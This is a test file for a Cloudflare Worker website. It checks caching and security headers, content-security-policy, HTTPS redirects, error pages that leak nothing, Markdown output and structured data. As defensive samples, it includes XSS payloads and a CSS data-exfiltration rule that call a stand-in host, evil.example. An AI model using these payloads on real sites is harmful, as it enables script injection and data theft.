import { exports } from "cloudflare:workers";
import { createElement, type ReactNode } from "react";
import { RouterContextProvider, type ServerBuild } from "react-router";
import * as v from "valibot";
import { expect, test, vi } from "vitest";

import { caseStudies } from "~/content/case-studies";
import { pageMeta } from "~/content/page-meta";
import { refused } from "~/content/refused";
import { siteContext } from "~/context";
import { sha256, toBase64 } from "~/domain/digest";

import { securityHeaders } from "../../workers/http/security-headers";
import { createRender } from "../../workers/pages/create-render";
import { startWorker, type Visit } from "./support/airtable";
import { dataOf, everyPage } from "./support/every-page";
import { linkOf } from "./support/own";
import { book, DAY, ORIGIN, payloadOf, useFreshDesk } from "./support/site";

useFreshDesk();

const EDGE = "public, max-age=300, stale-while-revalidate=86400, stale-if-error=604800";
/** The meaning of a reply's caching headers, in words. */
const POLICIES = {
  page: ["public, max-age=0", EDGE],
  list: ["public, max-age=60", null],
  file: ["public, max-age=3600", null],
  redirect: ["public, max-age=86400", null],
  never: ["no-store", null],
} as const;

type Row = readonly [policy: keyof typeof POLICIES, path: string, status: number, init?: RequestInit];

const FORM = { "content-type": "application/x-www-form-urlencoded", origin: ORIGIN };
const JSON_TYPE = { "content-type": "application/json" };
const post = (body: BodyInit, headers: Record<string, string> = JSON_TYPE) => ({ method: "POST", body, headers });

const ROWS: readonly Row[] = [
  ...everyPage.flatMap((path): Row[] => [
    ["page", path, 200],
    ["page", path, 200, { method: "HEAD" }],
    ["page", dataOf(path), 200],
    ["page", `${dataOf(path)}?_routes=root`, 200],
    ["page", `${path}?utm_source=x`, 200],
  ]),
  ["page", "/blog?q=agents", 200],
  ["never", "/book", 200],
  ["never", "/book.data", 200],
  ["never", `/book/${DAY}T19.ics`, 200],
  ["never", `/book/${DAY}T19.ics.data`, 200],
  ["never", "/book/nonsense.ics", 404],
  ["never", "/book", 422, post("name=", FORM)],
  ["never", "/book", 403, post("name=", { ...FORM, origin: "https://evil.example" })],
  ["never", "/nowhere", 404],
  ["never", "/nowhere.data", 404],
  ["never", "/blog/No%20such%20post", 404],
  ["never", "/case-studies/nobody", 404],
  ["never", "/preview/nobody", 404],
  ["never", "/preview/nobody.data", 404],
  ["never", "/about", 405, { method: "PUT" }],
  ["redirect", "/about/", 301],
  ["list", "/api/blogs", 200],
  ["list", `/api/blog?title=${everyPage.at(-1)?.replace("/blog/", "")}`, 200],
  ["never", "/api/blog?title=Nobody", 404],
  ["never", "/api/blog", 400],
  ["never", `/api/calendar/events?start=${DAY}&end=${DAY}`, 200],
  ["never", "/api/calendar/events", 400],
  ["never", "/api/calendar/create-event", 201, post(JSON.stringify(payloadOf()))],
  ["never", "/api/calendar/create-event", 422, post("{}")],
  ["never", "/api/calendar/create-event", 405],
  ["never", "/api/consent", 422, post("{}")],
  ["never", "/api/metrics", 204, post(JSON.stringify({ entries: [] }))],
  ["never", "/api/health", 200],
  ["never", "/api/nowhere", 404],
  ["never", "/img/recA9gQr5SfT7hNx3/0000000000000000/640.jpg", 404],
  ["list", "/sitemap.xml", 200],
  ["file", "/robots.txt", 200],
  ["list", "/llms.txt", 200],
  ["file", "/.well-known/security.txt", 200],
  ["file", "/openapi.json", 200],
  ["file", "/speculation-rules.json", 200],
  ["list", "/feed.xml", 200],
  ["never", "/sitemap.xml", 405, { method: "POST" }],
];

/** Headers that a visitor's browser may send; none of them may be reflected. */
const MARK = "xq7visitorxq7";
const VISITOR = {
  cookie: `a=${MARK}`,
  "user-agent": MARK,
  "accept-language": `${MARK};q=0.9`,
  "x-forwarded-for": MARK,
  "cf-connecting-ip": MARK,
  referer: `https://${MARK}.example/`,
  [MARK]: MARK,
};

test("every route's caching headers are those of the table, and no reply says anything of the visitor", async () => {
  const visit = startWorker({}, ["AIRTABLE_TOKEN", "AIRTABLE_BASE_ID"]);
  const wrong: unknown[] = [];
  for (const [policy, path, status, init = {}] of ROWS) {
    const headers = { ...VISITOR, ...(init.headers as Record<string, string> | undefined) };
    const reply = await visit(path, {
      redirect: "manual",
      method: init.method ?? "GET",
      body: init.body ?? null,
      headers,
    });
    const what = `${init.method ?? "GET"} ${path}`;
    const [browser, edge] = POLICIES[policy];
    const told = [reply.headers.get("cache-control"), reply.headers.get("cloudflare-cdn-cache-control")];
    if (reply.status !== status) wrong.push([what, reply.status, status]);
    if (told[0] !== browser || told[1] !== edge) wrong.push([what, policy, ...told]);
    const isStored = policy !== "never" && policy !== "redirect";
    if (/^".+"$/.test(reply.headers.get("etag") ?? "") !== isStored) wrong.push([what, "etag"]);
    if (reply.headers.has("cache-tag") !== (policy === "page")) wrong.push([what, "cache-tag"]);
    // A page exists as HTML and as Markdown, and everything else is cached once; compression is left to the edge.
    const isDocument = reply.headers.get("content-type")?.startsWith("text/html") ?? false;
    if (reply.headers.get("vary") !== (isDocument ? "Accept" : null)) wrong.push([what, "vary"]);
    for (const name of ["set-cookie", "server", "x-powered-by", "shown-posts", "expires", "cdn-cache-control"]) {
      if (reply.headers.has(name)) wrong.push([what, name]);
    }
    for (const { name, value, on } of securityHeaders) {
      const given = reply.headers.get(name);
      if (on === "default" ? given === null : given !== value) wrong.push([what, name, given]);
    }
    const whole = JSON.stringify([...reply.headers]) + (await reply.text());
    if (whole.includes(MARK)) wrong.push([what, "tells of the visitor"]);
  }
  expect(wrong).toEqual([]);
  expect(ROWS.length).toBeGreaterThan(150);
});

/** What text browsers write in one line: inline elements, and those that are younger than HTML 4. */
const IN_LINE =
  "a|article|aside|b|button|cite|code|details|dialog|em|figcaption|figure|footer|header|i|img|input|label|legend|main|nav|" +
  "picture|section|small|source|span|strong|summary|time";
const RUN_TOGETHER = new RegExp(
  `[^<>]{0,30}[\\p{L}\\p{N}.,:!?)](?:</?(?:${IN_LINE})\\b[^>]*>)+[\\p{L}\\p{N}(/][^<>]{0,30}`,
  "gu",
);
const UNREAD = /<(script|style|template|svg)\b.*?<\/\1>|<!--.*?-->/gs;

test("no words run together where only the stylesheet separates them, as text browsers have none", async () => {
  const visit = startWorker({}, ["AIRTABLE_TOKEN", "AIRTABLE_BASE_ID"]);
  await book({ hour: 10 });
  const own = `/booking/${await linkOf()}`;
  const states = ["", "?do=move", "?do=cancel", "?do=erase"].map((query) => own + query);
  const found: unknown[] = [];
  for (const path of [...everyPage, "/book", "/nowhere", "/blog/Nobody", "/blog?q=agents", ...states]) {
    const [, body = ""] = (await (await visit(path)).text()).split(/<body\b/);
    expect(body).toContain("<h1");
    found.push(...[...body.replaceAll(UNREAD, "").matchAll(RUN_TOGETHER)].map(([words]) => [path, words]));
  }
  expect(found).toEqual([]);
});

test("a page's own policy is a page's, and everything else is inert", async () => {
  const visit = startWorker({}, ["AIRTABLE_TOKEN", "AIRTABLE_BASE_ID"]);
  const policyOf = async (path: string) => (await visit(path)).headers.get("content-security-policy");
  for (const path of ["/", "/book", "/nowhere"])
    expect(await policyOf(path)).toMatch(/^default-src 'none'; script-src 'self' /);
  for (const path of ["/api/health", "/about.data", "/robots.txt", "/feed.xml", "/about/", "/api/nowhere"]) {
    expect([path, await policyOf(path)]).toEqual([
      path,
      "default-src 'none'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'",
    ]);
  }
});

const PATHS = everyPage.flatMap((path) => [path, dataOf(path), `${dataOf(path)}?_routes=root`]);

/** Two visitors who differ in everything that a request can reveal. */
const VISITORS = [
  {
    now: "2026-11-20T09:00:00Z",
    query: "",
    headers: {
      cookie: "theme=light; consent=all",
      "accept-language": "en-US",
      "user-agent": "Mozilla/5.0 (X11; Linux x86_64) Chrome/156.0",
      "sec-ch-prefers-color-scheme": "light",
      "accept-encoding": "br",
    },
  },
  {
    now: "2031-02-28T23:59:59Z",
    query: "utm_source=news&gclid=1",
    headers: {
      cookie: "theme=dark; session=abc; __Host-id=1",
      "accept-language": "es-CO,es;q=0.9",
      "user-agent": "Googlebot/2.1 (+http://www.google.com/bot.html)",
      "sec-ch-prefers-color-scheme": "dark",
      "sec-ch-ua-mobile": "?1",
      "sec-ch-prefers-reduced-motion": "reduce",
      "sec-gpc": "1",
      "save-data": "on",
      "x-forwarded-host": "evil.example",
      "x-forwarded-proto": "http",
      "cf-ipcountry": "CO",
      authorization: "Bearer x",
      dnt: "1",
    },
  },
] as const;

async function see(visit: Visit, path: string, { query, headers }: (typeof VISITORS)[number]): Promise<unknown> {
  const address = query === "" ? path : `${path}${path.includes("?") ? "&" : "?"}${query}`;
  const reply = await visit(address, { headers });
  return [path, reply.status, await reply.text(), ...reply.headers];
}

test("every page and its data is the same, byte for byte, for visitors who share nothing", async () => {
  /** Each visitor gets a separate isolate, so that no page can be a cached copy of the other's. */
  const seen: unknown[][] = [];
  for (const visitor of VISITORS) {
    vi.setSystemTime(visitor.now);
    const visit = startWorker({}, ["AIRTABLE_TOKEN", "AIRTABLE_BASE_ID"]);
    const views: unknown[] = [];
    for (const path of PATHS) views.push(await see(visit, path, visitor));
    // And again, from the isolate's cache.
    for (const [index, path] of PATHS.entries()) expect(await see(visit, path, visitor)).toEqual(views[index]);
    seen.push(views);
  }
  const [first = [], second = []] = seen;
  for (const [index, view] of first.entries()) expect(second[index]).toEqual(view);
  expect(first.length).toBe(PATHS.length);
});

/** Other spellings of a page's URL: in capitals, with an encoded letter, with an additional slash. */
const spellings = (path: string) => [
  // The last part of the path of a post or a case study is a case-sensitive text.
  path.replace(/^\/[^/.]+/, (first) => first.toUpperCase()),
  path.replace(/^\/(.)/, (_, letter: string) => `/%${letter.charCodeAt(0).toString(16)}`),
  `/${path}`,
  `${path}/`,
];

test("ROUTE-03 every page has one address: all other spellings lead there, data and query included", async () => {
  const visit = startWorker({}, ["AIRTABLE_TOKEN", "AIRTABLE_BASE_ID"]);
  const pages = [...everyPage.filter((path) => path !== "/"), "/book"];
  for (const path of pages) {
    for (const page of [path, dataOf(path)]) {
      for (const spelling of spellings(page)) {
        const reply = await visit(`${spelling}?utm_source=x`);
        const location = reply.headers.get("location") ?? "";
        expect([spelling, reply.status, location]).toEqual([spelling, 301, `${page}?utm_source=x`]);
        expect([page, (await visit(location)).status]).toEqual([page, 200]);
      }
    }
  }
  expect(pages.length).toBeGreaterThan(15);
});

test("over plain http nothing is answered but the way to https, forms and files of machines included", async () => {
  const visit = startWorker();
  const http = ORIGIN.replace("https:", "http:");
  const form = { method: "POST", body: new URLSearchParams({ name: "Ana" }), headers: { origin: http } };
  // A page that the isolate has in memory is not answered from there.
  expect((await visit("/about")).status).toBe(200);
  for (const [path, init] of [
    ["/", {}],
    ["/about", {}],
    ["/about", {}],
    ["/book?date=2099-11-26", form],
    ["/api/calendar/create-event", { method: "POST", body: "{}" }],
    ["/sitemap.xml", {}],
    ["/img/x", {}],
    ["/Nowhere/", {}],
  ] as const) {
    const reply = await visit(`${http}${path}`, init);
    expect([path, reply.status, reply.headers.get("location")]).toEqual([path, 308, `${ORIGIN}${path}`]);
    expect([reply.headers.get("cache-control"), await reply.text()]).toEqual(["no-store", ""]);
  }
});

test.each([
  [{}, "max-age=63072000"],
  [{ HSTS: "preload" }, "max-age=63072000; includeSubDomains; preload"],
])("with %j every reply of the Worker promises %s", async (settings, promise) => {
  const start = () => startWorker(settings, ["AIRTABLE_TOKEN", "AIRTABLE_BASE_ID"]);
  const visit = start();
  for (const path of ["/", "/nowhere", "/api/health", "/robots.txt", "/About"])
    expect([path, (await visit(path)).headers.get("strict-transport-security")]).toEqual([path, promise]);
  // This machine has no certificate, so it must not send HSTS.
  const local = await start()("http://localhost:8787/");
  expect([local.status, local.headers.get("strict-transport-security")]).toEqual([200, null]);
  expect(local.headers.get("content-security-policy")).not.toContain("upgrade-insecure-requests");
});

const SECRET = "no table bookings_v9 at /srv/nightshift/desk.ts:41";

type Replaced = { readonly default?: () => ReactNode; readonly loader?: () => never };
type Answer = { readonly reply: Response; readonly reported: readonly unknown[] };

/** The deployed site with another home page, and without anything that stores bookings. */
async function askWith(replaced: Replaced, request = new Request(`${ORIGIN}/`)): Promise<Answer> {
  const build = (await import("virtual:react-router/server-build")) as unknown as ServerBuild;
  const home = build.routes["pages/home/route"];
  if (!home) throw new Error("There is no home page.");
  const module = { ...home.module, ...replaced };
  const broken = { ...build, routes: { ...build.routes, "pages/home/route": { ...home, module } } };
  const report = vi.fn<(error: unknown) => void>();
  const context = new RouterContextProvider();
  context.set(siteContext, {
    url: ORIGIN,
    analyticsId: null,
    turnstileSiteKey: null,
    meetingPlace: null,
    announcedPlace: null,
    mailed: false,
    posts: async () => ({ ok: true, records: [], version: "none", stale: false }),
    preview: async () => ({ kind: "missing" }),
    report,
    policy: { secure: true, trustedTypes: "enforce" },
    invite: async () => null,
    refused: null,
    visitorBooking: {
      find: async () => null,
      openDays: async () => [],
      move: async () => null,
      cancel: async () => null,
      erase: async () => null,
      confirm: async () => null,
      neverMail: async () => null,
      calendarFile: async () => null,
    },
    bookingForm: { openDays: async () => crash(), submit: async () => crash() },
  });
  const reply = await createRender(broken, "production")(request, context);
  return { reply, reported: report.mock.calls.flat() };
}

function crash(): never {
  throw new RangeError(SECRET);
}

test.each(["loader", "Component"] as const)(
  "ROUTE-04 an exception in the page's %s answers 500 with a designed page, and reveals nothing to the visitor",
  async (where) => {
    const { reply, reported } = await askWith(where === "loader" ? { loader: crash } : { default: crash });
    expect(reply.status).toBe(500);
    expect(reply.headers.get("content-type")).toBe("text/html; charset=utf-8");
    const html = await reply.text();
    expect(html.match(/<h1[^>]*>[^<]*/g)).toEqual([expect.stringMatching(/>Something went wrong on our end$/)]);
    expect(html).toContain('href="/"');
    expect(html).toContain("Free Demo");
    for (const leak of ["bookings_v9", "desk.ts", "RangeError", "    at "]) expect(html).not.toContain(leak);
    // React and the router may each log it.
    expect(new Set(reported.map(String))).toEqual(new Set([`RangeError: ${SECRET}`]));
  },
);

test.each(["GET", "POST"])(
  "ROUTE-04 BOOK-16 where the form as a page fails on a %s, it says to reload, and no button opens what is not there",
  async (method) => {
    const init = method === "POST" ? { method, body: new URLSearchParams({ name: "Ada" }) } : { method };
    const { reply, reported } = await askWith({}, new Request(`${ORIGIN}/book`, init));
    expect(reply.status).toBe(500);
    const html = await reply.text();
    expect(html).toContain(refused.failed.text);
    expect(html).toContain(`href="${refused.mailTo}"`);
    expect(html).not.toContain("commandfor=");
    expect(html).not.toContain("bookings_v9");
    expect(reported.map(String)).toContain(`RangeError: ${SECRET}`);
  },
);

/** A page into which somebody has injected markup. */
const withMarkup = (markup: string) => ({
  default: () => createElement("div", { dangerouslySetInnerHTML: { __html: markup } }),
});
const LOGGED = "Error: A page holds an inline script or style that is not the site's own.";

test.each([
  "<script>steal()</script>",
  "<SCRIPT type=module>steal()</SCRIPT>",
  '<script nonce="0">steal()</script>',
  "<script data-x=' type=\"application/ld+json\"'>steal()</script>",
  '<script src="https://evil.example/steal.js"></script>',
  "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
  "<script>never closed",
])("a page that holds %s is not sent: the visitor gets the page of an error, and the log says why", async (markup) => {
  const { reply, reported } = await askWith(withMarkup(markup));
  expect(reply.status).toBe(500);
  const html = await reply.text();
  expect(html).toContain("Something went wrong on our end");
  for (const injected of ["evil", "steal()"]) expect(html).not.toContain(injected);
  expect(reported.map(String)).toContain(LOGGED);
});

test("words that look like markup are words, and data is data", async () => {
  const hostile = '<style id="critical-css"></style></script><script>steal()</script>';
  const { reply, reported } = await askWith({
    default: () => [
      createElement("h1", { key: 1 }, hostile),
      createElement("script", { key: 2, type: "application/ld+json" }, "{}"),
    ],
  });
  expect([reply.status, reported]).toEqual([200, []]);
  const html = await reply.text();
  expect(html).toContain("&lt;style id=&quot;critical-css&quot;&gt;");
  // The policy lists everything that runs: the head's script, the router's two, and the one that starts them.
  const policy = reply.headers.get("content-security-policy")?.split("; ") ?? [];
  const hashesOf = (directive: string) =>
    policy.find((each) => each.startsWith(directive))?.match(/'sha256-[^']+'/g) ?? [];
  const foreign = toBase64(await sha256("steal()"));
  expect(hashesOf("script-src")).toHaveLength(4);
  expect(hashesOf("script-src")).not.toContain(`'sha256-${foreign}'`);
  expect(hashesOf("style-src")).toHaveLength(1);
});

const UNSET = ["AIRTABLE_TOKEN", "AIRTABLE_BASE_ID"] as const;
const asMarkdown = (accept = "text/markdown") => ({ headers: { accept } });

test("AGENT-02 every page asked for as text/markdown answers its words, and no markup", async () => {
  const visit = startWorker({}, UNSET);
  const paths = [...everyPage, "/book"];
  for (const path of paths) {
    const html = await visit(path);
    const reply = await visit(path, asMarkdown());
    const text = await reply.text();
    expect([path, reply.status, reply.headers.get("content-type")]).toEqual([
      path,
      200,
      "text/markdown; charset=utf-8",
    ]);
    const title = /<title>([^<]+)/.exec(await html.text())?.[1] ?? "no title";
    expect(text).toContain(`\nurl: "${ORIGIN}${path}"\nbook: "${ORIGIN}/book"\n`);
    expect(JSON.parse(/^title: (.*)$/m.exec(text)?.[1] ?? "")).toBe(
      title.replaceAll("&amp;", "&").replaceAll("&#x27;", "'"),
    );
    expect([path, text.match(/^# /gm)?.length]).toEqual([path, 1]);
    expect([path, /<\/?[a-z][^>]*>|\]\(\/|function\s*\(|\{"@context"/.exec(text)?.[0]]).toEqual([path, undefined]);
    // The words that Lighthouse calls no description of where a link leads.
    expect([path, /\[(?:read|learn|see)? ?(?:more|here|this)\]/i.exec(text)?.[0]]).toEqual([path, undefined]);
    expect(reply.headers.get("content-security-policy")).toMatch(/^default-src 'none'; base-uri/);
  }
  expect(paths.length).toBeGreaterThan(15);
});

test("AGENT-02 the words are the page's own: its description, its headings, its links with the site's address", async () => {
  const visit = startWorker({}, UNSET);
  const text = await (await visit("/case-studies", asMarkdown())).text();
  expect(text).toContain(`description: ${JSON.stringify(pageMeta["/case-studies"].description)}`);
  expect(text).toMatch(/^note: .* are samples\."$/m);
  for (const { slug, client } of caseStudies.items) {
    expect(text).toContain(client);
    expect(text).toContain(`](${ORIGIN}/case-studies/${slug})`);
  }
});

test.each([
  ["text/markdown", "text/markdown"],
  ["text/markdown, text/html;q=0.9, */*;q=0.1", "text/markdown"],
  ["text/html, text/markdown;q=0.9", "text/html"],
  ["text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "text/html"],
  ["text/markdown;q=0", "text/html"],
  ["*/*", "text/html"],
  ["", "text/html"],
  ["text/markdown;;;q=x,,,", "text/markdown"],
])("AGENT-02 who asks for %s gets %s", async (accept, type) => {
  const visit = startWorker({}, UNSET);
  const reply = await visit("/about", asMarkdown(accept));
  expect(reply.headers.get("content-type")).toBe(`${type}; charset=utf-8`);
  expect(reply.headers.get("vary")).toBe("Accept");
  await reply.text();
});

test("AGENT-02 HTML and Markdown are cached apart: each has an ETag of its own, and 304 is for that alone", async () => {
  const visit = startWorker({}, UNSET);
  const html = (await visit("/about")).headers.get("etag") ?? "";
  const first = await visit("/about", asMarkdown());
  const markdown = first.headers.get("etag") ?? "";
  const again = await visit("/about", asMarkdown());
  expect(await again.text()).toBe(await first.text());
  expect([...again.headers]).toEqual([...first.headers]);
  expect(markdown).toMatch(/^"\S{24}"$/);
  expect(markdown).not.toBe(html);
  const ask = async (accept: string, etag: string) =>
    (await visit("/about", { headers: { accept, "if-none-match": etag } })).status;
  expect([await ask("text/markdown", markdown), await ask("text/markdown", html)]).toEqual([304, 200]);
  expect([await ask("text/html", html), await ask("text/html", markdown)]).toEqual([304, 200]);
});

test("AGENT-02 HEAD has the headers of GET; what is no page answers as it always does", async () => {
  const visit = startWorker({}, UNSET);
  const head = await visit("/about", { method: "HEAD", ...asMarkdown() });
  expect([...head.headers]).toEqual([...(await visit("/about", asMarkdown())).headers]);
  expect(await head.text()).toBe("");
  const plain = async (path: string, method = "GET") => {
    const reply = await visit(path, { redirect: "manual", method, ...asMarkdown() });
    await reply.text();
    return [reply.status, reply.headers.get("content-type")];
  };
  expect(await plain("/about/")).toEqual([301, null]);
  expect(await plain("/nowhere")).toEqual([404, "text/markdown; charset=utf-8"]);
  expect(await plain(dataOf("/about"))).toEqual([200, "text/x-script"]);
  expect(await plain("/api/blogs")).toEqual([200, "application/json"]);
  expect(await plain("/about", "POST")).toEqual([405, "application/problem+json; charset=utf-8"]);
});

test("AGENT-02 the calls to action lead to booking, and a visitor's page to moving, canceling and erasing", async () => {
  const visit = startWorker({}, UNSET);
  for (const path of ["/", "/about", "/services", "/case-studies/marlowe-dental", "/contact"])
    expect([path, await (await visit(path, asMarkdown())).text()]).toEqual([
      path,
      expect.stringMatching(new RegExp(`^ *\\[[^\\]]+\\]\\(${ORIGIN}/book\\)$`, "m")),
    ]);
  await book();
  const page = `${ORIGIN}/booking/${await linkOf()}`;
  const own = await (await exports.default.fetch(page, asMarkdown())).text();
  for (const wish of ["move", "cancel", "erase"]) expect(own).toContain(`](${page}?do=${wish})`);
});

test("AGENT-02 what was typed into a search stays text", async () => {
  const visit = startWorker({}, UNSET);
  const search = await (await visit("/blog?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", asMarkdown())).text();
  expect(search).not.toContain("<script>");
});

const Text = v.pipe(v.string(), v.nonEmpty());
const Url = v.pipe(v.string(), v.url(), v.startsWith("https://"));
const listOf = (entry: v.ObjectEntries) =>
  v.pipe(
    v.array(v.looseObject({ "@type": v.literal("ListItem"), position: v.number(), name: Text, ...entry })),
    v.nonEmpty(),
    v.check((items) => items.every(({ position }, index) => position === index + 1), "positions count from one"),
  );
const pageOf = <const Type extends string>(type: Type) =>
  v.looseObject({ "@type": v.literal(type), "@id": Url, url: Url, name: Text, description: Text });

/** What Google asks of each type for its rich results: https://developers.google.com/search/docs/appearance/structured-data */
const Node = v.variant("@type", [
  v.looseObject({
    "@type": v.literal("Organization"),
    name: Text,
    url: Url,
    logo: v.looseObject({ "@type": v.literal("ImageObject"), url: Url }),
  }),
  v.looseObject({
    "@type": v.literal("WebSite"),
    url: Url,
    potentialAction: v.looseObject({
      "@type": v.literal("SearchAction"),
      target: v.looseObject({ urlTemplate: v.pipe(Url, v.endsWith("/blog?q={search_term_string}")) }),
      "query-input": v.literal("required name=search_term_string"),
    }),
  }),
  pageOf("WebPage"),
  pageOf("AboutPage"),
  pageOf("ContactPage"),
  pageOf("CollectionPage"),
  v.looseObject({ "@type": v.literal("BreadcrumbList"), itemListElement: listOf({ item: Url }) }),
  v.looseObject({ "@type": v.literal("ItemList"), itemListElement: listOf({ url: Url }) }),
  v.looseObject({
    "@type": v.literal("Service"),
    name: Text,
    aggregateRating: v.looseObject({
      ratingValue: v.pipe(v.number(), v.minValue(1), v.maxValue(5)),
      reviewCount: v.pipe(v.number(), v.integer(), v.minValue(1)),
    }),
  }),
  v.looseObject({
    "@type": v.literal("BlogPosting"),
    headline: v.pipe(Text, v.maxLength(110)),
    image: Url,
    datePublished: v.pipe(v.string(), v.isoTimestamp()),
    author: v.looseObject({ "@type": v.picklist(["Person", "Organization"]), name: Text }),
  }),
]);
const CONTEXT = { "@context": v.literal("https://schema.org") };
/** A block holds a graph, or one node. */
const Block = v.union([v.object({ ...CONTEXT, "@graph": v.array(Node) }), v.intersect([v.looseObject(CONTEXT), Node])]);

function nodesOf(html: string): v.InferOutput<typeof Node>[] {
  const blocks = [...html.matchAll(/<script type="application\/ld\+json"[^>]*>([^<]*)<\/script>/g)];
  return blocks.flatMap(([, json = ""]) => {
    const block = v.parse(Block, JSON.parse(json));
    return "@type" in block ? [block] : block["@graph"];
  });
}

test("META-01 META-02 META-04 META-05 the structured data of every page has what Google asks of rich results", async () => {
  const visit = startWorker({}, ["AIRTABLE_TOKEN", "AIRTABLE_BASE_ID"]);
  const seen = new Map<string, string[]>();
  for (const path of everyPage) {
    const html = await (await visit(path)).text();
    seen.set(
      path,
      nodesOf(html).map((node) => node["@type"]),
    );
  }
  for (const [path, types] of seen) {
    for (const type of ["Organization", "WebSite"]) expect([path, ...types]).toContain(type);
    expect([path, types.includes("BlogPosting")]).toEqual([path, path.startsWith("/blog/")]);
  }
  for (const type of ["BreadcrumbList", "Service", "BlogPosting", "ItemList"])
    expect([...seen.values()].flat()).toContain(type);
});
